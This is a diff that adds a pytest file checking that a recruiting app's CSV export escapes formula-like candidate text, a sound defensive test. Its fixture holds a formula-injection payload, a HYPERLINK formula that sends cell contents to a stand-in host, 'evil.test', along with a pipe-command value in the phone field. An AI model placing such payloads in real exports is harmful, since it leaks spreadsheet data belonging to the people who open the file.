@@ -0,0 +1,53 @@
+"""Выгрузка кандидатов (export.py): текст партнёра не исполняется в Excel как формула."""
+import csv
+import io
+
+import pytest
+
+from export import csv_stream
+from models import Candidate, Job, User, db
+
+FORMULA_NAME = '=HYPERLINK("http://evil.test/?x="&A1,"Иван")'
+
+
+@pytest.fixture(scope="module")
+def users(app):
+    """Партнёр с кандидатом, чьё имя и телефон похожи на формулы, и координатор."""
+    with app.app_context():
+        partner = User(name="partner", email="partner@export.test", password_hash="", role="partner")
+        coordinator = User(name="coordinator", email="coordinator@export.test", password_hash="", role="coordinator")
+        job = Job(title="Экспорт", location="Poznań")
+        db.session.add_all([partner, coordinator, job])
+        db.session.flush()
+        db.session.add(Candidate(job_id=job.id, submitter_id=partner.id, full_name=FORMULA_NAME,
+                                 phone="+48|cmd", notes="@SUM(1+1)"))
+        db.session.commit()
+        result = {"partner": partner.id, "coordinator": coordinator.id}
+        db.session.remove()
+    return result
+
+
+def _rows(chunks):
+    return list(csv.reader(io.StringIO("".join(chunks).lstrip("﻿"))))
+
+
+def test_csv_escapes_formula_like_text():
+    rows = _rows(csv_stream(("a", "b", "c", "d", "e", "f"),
+                            [("=1+1", "+48 500", "-x", "@A1", "\tTAB", "\rCR")]))
+    assert rows[1] == ["'=1+1", "'+48 500", "'-x", "'@A1", "'\tTAB", "'\rCR"]
+
+
+def test_csv_keeps_numbers_and_plain_text():
+    rows = _rows(csv_stream(("a", "b", "c", "d"), [(-5, -1.5, "Иван", None)]))
+    assert rows[1] == ["-5", "-1.5", "Иван", ""]
+
+
+def test_candidates_export_csv_escapes_partner_text(users, login):
+    r = login(users["coordinator"]).get("/candidates/export?format=csv")
+    assert r.status_code == 200
+    rows = _rows([r.get_data(as_text=True)])
+    headers = rows[0]
+    row = next(row for row in rows[1:] if row[headers.index("Кандидат")].endswith(FORMULA_NAME))
+    assert row[headers.index("Кандидат")] == "'" + FORMULA_NAME
+    assert row[headers.index("Телефон")] == "'+48|cmd"
+    assert row[headers.index("Заметки")] == "'@SUM(1+1)"